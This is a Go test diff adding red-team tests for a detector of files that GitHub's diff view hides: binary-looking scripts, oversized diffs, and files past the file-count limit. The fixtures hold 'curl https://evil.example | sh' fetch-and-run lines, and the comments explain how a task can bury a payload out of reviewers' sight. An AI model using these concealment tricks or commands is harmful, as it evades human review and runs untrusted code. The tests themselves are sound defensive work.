@@ -2,6 +2,7 @@ package gitrepo
 
 import (
 	"context"
+	"fmt"
 	"strings"
 	"testing"
 )
@@ -163,5 +164,79 @@ func TestReadShapeBounded(t *testing.T) {
 	}
 	if s.lines != 100001 || len(s.head) != headLines || s.prev != "ab" || s.last != "" {
 		t.Errorf("shape of many lines: %d lines, head %d, prev %q, last %q", s.lines, len(s.head), s.prev, s.last)
+	}
+}
+
+// TestRedTeamHiddenBySizeAndContent: what GitHub's diff leaves out with
+// no attribute and no generated look. A script holding a NUL byte (a
+// shell still runs it) shows as "Binary file not shown"; a file whose
+// diff is over 20,000 lines is not shown; and once the diff has passed
+// 20,000 lines in all, the files after are not shown, so a task puts its
+// payload after two big files. planex named none of them; HiddenChanges
+// names each, and leaves alone the files GitHub shows and a deleted
+// binary.
+func TestRedTeamHiddenBySizeAndContent(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+	r := newRepo(t)
+	writeFiles(t, r.Root, map[string]string{"a/keep.txt": "x\n", "a/old.bin": "\x00gone\n"})
+	base := commitAll(ctx, t, r, "the repository")
+	mustGit(t, r.Root, "rm", "-q", "a/old.bin")
+	writeFiles(t, r.Root, map[string]string{
+		"a/run.sh":     "#!/bin/sh\n: \x00\ncurl https://evil.example | sh\n",
+		"a/keep.txt":   "y\n",
+		"m/big.txt":    strings.Repeat("line\n", 15000),
+		"n/big.txt":    strings.Repeat("line\n", 6000), // starts at 15,002 lines: shown
+		"o/payload.sh": "curl https://evil.example | sh\n",
+		"z/huge.txt":   strings.Repeat("line\n", fileDiffLines+1),
+	})
+	commitAll(ctx, t, r, "T1: the task")
+	mustGit(t, r.Root, "branch", "planex/x")
+
+	got, n, err := HiddenChanges(ctx, r, "planex/x", base)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var names []string
+	for _, f := range got {
+		names = append(names, f.Path+" "+f.Why.String())
+	}
+	want := []string{
+		"a/run.sh binary, by its content",
+		"o/payload.sh past the diff's size limit",
+		"z/huge.txt past the diff's size limit",
+	}
+	if strings.Join(names, "\n") != strings.Join(want, "\n") || n != len(want) {
+		t.Fatalf("hidden = %d\n%s\nwant\n%s", n, strings.Join(names, "\n"), strings.Join(want, "\n"))
+	}
+
+	// A file too large alone, first in the diff.
+	writeFiles(t, r.Root, map[string]string{"0/huge.txt": strings.Repeat("line\n", fileDiffLines+1)})
+	commitAll(ctx, t, r, "T2: huge")
+	mustGit(t, r.Root, "branch", "-f", "planex/x")
+	if got, _, err := HiddenChanges(ctx, r, "planex/x", base); err != nil || len(got) == 0 || got[0] != (HiddenFile{"0/huge.txt", HiddenTooLarge}) {
+		t.Fatalf("hidden = %v %v, want 0/huge.txt too large first", got, err)
+	}
+}
+
+// TestRedTeamHiddenPastTheFileLimit: small files only; the 301st of the
+// diff is past GitHub's limit, the 300th is shown.
+func TestRedTeamHiddenPastTheFileLimit(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+	r := newRepo(t)
+	writeFiles(t, r.Root, map[string]string{"README": "x\n"})
+	base := commitAll(ctx, t, r, "the repository")
+	files := map[string]string{}
+	for i := range prDiffFiles {
+		files[fmt.Sprintf("f%03d.txt", i)] = "ok\n"
+	}
+	files["z/payload.sh"] = "curl https://evil.example | sh\n"
+	writeFiles(t, r.Root, files)
+	commitAll(ctx, t, r, "T1: the task")
+	mustGit(t, r.Root, "branch", "planex/x")
+	got, n, err := HiddenChanges(ctx, r, "planex/x", base)
+	if err != nil || n != 1 || len(got) != 1 || got[0] != (HiddenFile{"z/payload.sh", HiddenPastLimit}) {
+		t.Fatalf("hidden = %d %v %v, want z/payload.sh past the limit alone", n, got, err)
 	}
 }
